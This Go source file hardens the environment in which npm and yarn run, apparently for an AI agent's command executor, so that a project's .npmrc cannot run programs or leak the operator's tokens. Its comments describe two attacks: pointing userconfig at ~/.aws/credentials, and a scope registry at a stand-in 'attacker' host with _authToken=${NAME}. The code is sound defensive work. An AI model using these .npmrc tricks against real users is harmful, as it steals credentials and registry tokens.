package executor

import (
	"bufio"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
)

// npmKeys are the npm settings through which a project's .npmrc could make
// a read-only npm command run a program (git: npm view of a git URL runs
// it), send its requests and the operator's registry token elsewhere
// (proxy, https-proxy, registry, strict-ssl, cafile), read other files as
// its configuration (userconfig: userconfig=${HOME}/.aws/credentials then
// npm config list prints the keys; globalconfig, see NpmArgs; prefix, which
// places the global packages and globalconfig) or write outside the project
// (cache). npm ranks environment variables above the project's .npmrc, so
// ProgramEnv re-asserts each one with the operator's own value: the
// operator's environment, else the operator's user and global npmrc and
// npm's builtin npmrc, else npm's default. def is npm's default ("" when it
// is computed from the home directory or node's location); npm ignores an
// empty variable, and reads "null" as unset for these keys.
//
// script-shell and node-options are left to the project: npm uses them only
// for scripts, which run in the build profile only, where the project's
// code runs by design.
var npmKeys = []npmKey{
	{"git", "git", false},
	{"proxy", "null", false},
	{"https-proxy", "null", false},
	{"registry", "https://registry.npmjs.org/", true},
	{"strict-ssl", "true", true},
	{"cafile", "null", true},
	{"userconfig", "", false},
	{"globalconfig", "", false},
	{"prefix", "", false},
	{"cache", "", false},
}

// npmKey is one setting; source says it only protects against a project
// choosing where packages come from, which a build (running the project's
// code anyway) may need to (a private registry with its own CA).
type npmKey struct {
	key, def string
	source   bool
}

// ProgramEnv returns env (the children's environment, already stripped of
// secrets and with SafeEnv's settings) extended with the overrides that keep
// a project's own configuration files from changing what a program runs,
// where it connects or which files it reads as configuration:
//   - npm (and pnpm, which reads .npmrc and npm_config_* too): npmKeys,
//     with the operator's values;
//   - yarn: YARN_IGNORE_PATH=1, so yarnPath (yarn-path in .yarnrc) from
//     the project, a JavaScript file yarn would run in place of itself, is
//     ignored.
//
// It reads the operator's npm configuration files once, when the server
// starts (the project cannot write them); home is the operator's home
// directory ("" to take HOME from env). With build (the build profile),
// the project keeps its registry, strict-ssl and cafile: builds of projects
// with a private registry in their .npmrc work, and the project's code,
// which runs by design, could read the operator's token anyway where the
// kernel layer lets it. The keys that run programs or choose npm's own
// configuration files are re-asserted in both profiles.
func ProgramEnv(env []string, home string, build bool) []string {
	if home == "" {
		home, _ = envValue(env, "HOME")
	}
	set := npmSettings(env, home, build)
	out := make([]string, 0, len(env)+len(set)+1)
	for _, kv := range env {
		name := envName(kv)
		// The operator's own spelling (NPM_CONFIG_REGISTRY) goes: its value
		// is in set, under npm's lower-case name.
		if key, ok := npmEnvKey(name); ok && slices.ContainsFunc(set, func(kv [2]string) bool { return kv[0] == npmEnvName(key) }) {
			continue
		}
		if !sameEnvName(name, "YARN_IGNORE_PATH") {
			out = append(out, kv)
		}
	}
	out = append(out, "YARN_IGNORE_PATH=1")
	for _, kv := range set {
		out = append(out, kv[0]+"="+kv[1])
	}
	return out
}

// npmEnvNames are the variables npm gets (NpmEnv), and npmEnvPrefixes
// the prefixes of the others it gets: what node and npm need to find their
// files, talk to a registry through the operator's proxy and CA, and the
// settings SafeEnv and ProgramEnv made.
var (
	npmEnvNames = []string{"PATH", "HOME", "USER", "LOGNAME", "SHELL", "TMPDIR", "TMP", "TEMP", "LANG", "TZ",
		"TERM", "NO_COLOR", "PWD", "CI", "PAGER", "MANPAGER", "EDITOR", "VISUAL", "LESSSECURE", "YARN_IGNORE_PATH",
		"HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY", "http_proxy", "https_proxy", "no_proxy",
		"SSL_CERT_FILE", "SSL_CERT_DIR", "NODE_EXTRA_CA_CERTS", "NODE_OPTIONS", "NODE_PATH", "NODE_ENV",
		// Windows: where the system, the profile and the programs are.
		"SystemRoot", "SYSTEMROOT", "windir", "ComSpec", "PATHEXT", "APPDATA", "LOCALAPPDATA", "USERPROFILE",
		"HOMEDRIVE", "HOMEPATH", "ProgramFiles", "ProgramFiles(x86)", "ProgramData"}
	npmEnvPrefixes = []string{"LC_", "XDG_", "NVM_", "COREPACK_"}
)

// NpmEnv returns the part of env npm gets: npmEnvNames, the variables of
// npmEnvPrefixes and the npm_config_* settings, nothing else. npm expands
// ${NAME} in every .npmrc it reads, the project's included, from its own
// environment: a project's .npmrc that points a scope at its own registry
// (@x:registry=https://attacker/) with //attacker/:_authToken=${NAME}
// sends NAME's value there on the first metadata request of a read-only
// npm outdated or npm view. Whatever StripEnv's patterns miss must not be
// in npm's environment to be sent.
func NpmEnv(env []string) []string {
	out := make([]string, 0, len(npmEnvNames)+8)
	for _, kv := range env {
		name := envName(kv)
		_, npm := npmEnvKey(name)
		// git's own variables only as SafeEnv sets them: others
		// (GIT_HTTP_EXTRAHEADER) may carry credentials.
		safe := slices.ContainsFunc(safeSettings, func(s string) bool { return sameEnvName(envName(s), name) })
		if npm || safe || slices.ContainsFunc(npmEnvNames, func(n string) bool { return sameEnvName(n, name) }) ||
			slices.ContainsFunc(npmEnvPrefixes, func(p string) bool { return strings.HasPrefix(name, p) }) {
			out = append(out, kv)
		}
	}
	return out
}

// npmEnvName is the variable that sets key: npm_config_ and the key with _
// for -.
func npmEnvName(key string) string { return "npm_config_" + strings.ReplaceAll(key, "-", "_") }

// npmEnvKey returns the npm setting an npm_config_* variable sets, read as
// npm reads it: the prefix in any case, then lower case with - for _.
func npmEnvKey(name string) (string, bool) {
	const prefix = "npm_config_"
	if len(name) <= len(prefix) || !strings.EqualFold(name[:len(prefix)], prefix) {
		return "", false
	}
	return strings.ToLower(strings.ReplaceAll(name[len(prefix):], "_", "-")), true
}

// npmSettings returns the npm_config_* variables (name, value) that
// re-assert npmKeys.
func npmSettings(env []string, home string, build bool) [][2]string {
	fromEnv := map[string]string{}
	for _, kv := range env {
		name := envName(kv)
		if key, ok := npmEnvKey(name); ok && len(kv) > len(name)+1 {
			fromEnv[key] = kv[len(name)+1:]
		}
	}
	get := func(key string, files ...map[string]string) (string, bool) {
		if v, ok := fromEnv[key]; ok {
			return v, true
		}
		for _, f := range files {
			if v, ok := f[key]; ok && v != "" {
				return v, true
			}
		}
		return "", false
	}
	builtin := map[string]string{}
	nodePrefix := ""
	if npm, err := lookPathIn(env, "npm"); err == nil {
		if real, err := filepath.EvalSymlinks(npm); err == nil {
			// .../lib/node_modules/npm/bin/npm-cli.js: npm's builtin npmrc
			// is in .../npm.
			builtin = readNpmrc(filepath.Join(filepath.Dir(filepath.Dir(real)), "npmrc"), env)
		}
	}
	if node, err := lookPathIn(env, "node"); err == nil {
		if real, err := filepath.EvalSymlinks(node); err == nil {
			nodePrefix = filepath.Dir(filepath.Dir(real))
			if runtime.GOOS == "windows" {
				nodePrefix = filepath.Dir(real)
			}
		}
	}
	userconfig, ok := get("userconfig", builtin)
	if !ok && home != "" {
		userconfig = filepath.Join(home, ".npmrc")
	}
	user := readNpmrc(expandHome(userconfig, home), env)
	prefix, ok := get("prefix", user, builtin)
	if !ok {
		prefix = nodePrefix
	}
	globalconfig, ok := get("globalconfig", user, builtin)
	if !ok && prefix != "" {
		globalconfig = filepath.Join(prefix, "etc", "npmrc")
	}
	global := readNpmrc(expandHome(globalconfig, home), env)
	var out [][2]string
	for _, k := range npmKeys {
		if build && k.source {
			continue
		}
		v, ok := get(k.key, user, global, builtin)
		switch {
		case ok:
		case k.key == "userconfig":
			v = userconfig
		case k.key == "globalconfig":
			v = globalconfig
		case k.key == "prefix":
			v = prefix
		case k.key == "cache" && home != "":
			v = filepath.Join(home, ".npm")
		default:
			v = k.def
		}
		if v == "" {
			continue
		}
		out = append(out, [2]string{npmEnvName(k.key), v})
	}
	return out
}

// readNpmrc reads the key = value lines of an npmrc file (comments start
// with ; or #), expanding ${VAR} from env as npm does. A missing file is
// an empty map.
func readNpmrc(path string, env []string) map[string]string {
	out := map[string]string{}
	if path == "" {
		return out
	}
	f, err := os.Open(path)
	if err != nil {
		return out
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" || line[0] == ';' || line[0] == '#' || line[0] == '[' {
			continue
		}
		k, v, ok := strings.Cut(line, "=")
		if !ok {
			continue
		}
		k, v = strings.TrimSpace(k), strings.TrimSpace(v)
		if len(v) >= 2 && (v[0] == '"' && v[len(v)-1] == '"' || v[0] == '\'' && v[len(v)-1] == '\'') {
			v = v[1 : len(v)-1]
		}
		v = os.Expand(v, func(name string) string { s, _ := envValue(env, name); return s })
		out[strings.ToLower(k)] = v
	}
	return out
}

func expandHome(p, home string) string {
	if strings.HasPrefix(p, "~/") && home != "" {
		return filepath.Join(home, p[2:])
	}
	return p
}

// IsNpm reports whether path names npm (by base name), the program NpmArgs
// applies to.
func IsNpm(path string) bool {
	b := filepath.Base(path)
	return b == "npm" || b == "npm.cmd"
}

// NpmArgs returns args with --globalconfig set to env's npm_config_globalconfig
// (which ProgramEnv set to the operator's): npm 11 stores a globalconfig
// given by the environment or the command line alone under its defaults,
// where the project's .npmrc, read later, overrides it; given by both, the
// environment's wins. The value is the operator's, never the agent's (the
// guard refuses --globalconfig in a request). args is returned unchanged
// when env has no such variable.
func NpmArgs(args, env []string) []string {
	v, ok := envValue(env, "npm_config_globalconfig")
	if !ok || v == "" {
		return args
	}
	return append([]string{"--globalconfig=" + v}, args...)
}

// lookPathIn finds a program on env's PATH (not the server's).
func lookPathIn(env []string, name string) (string, error) {
	path, _ := envValue(env, "PATH")
	for _, dir := range filepath.SplitList(path) {
		if dir == "" {
			continue
		}
		p := filepath.Join(dir, name)
		if fi, err := os.Stat(p); err == nil && !fi.IsDir() && fi.Mode()&0o111 != 0 {
			return p, nil
		}
	}
	return "", exec.ErrNotFound
}
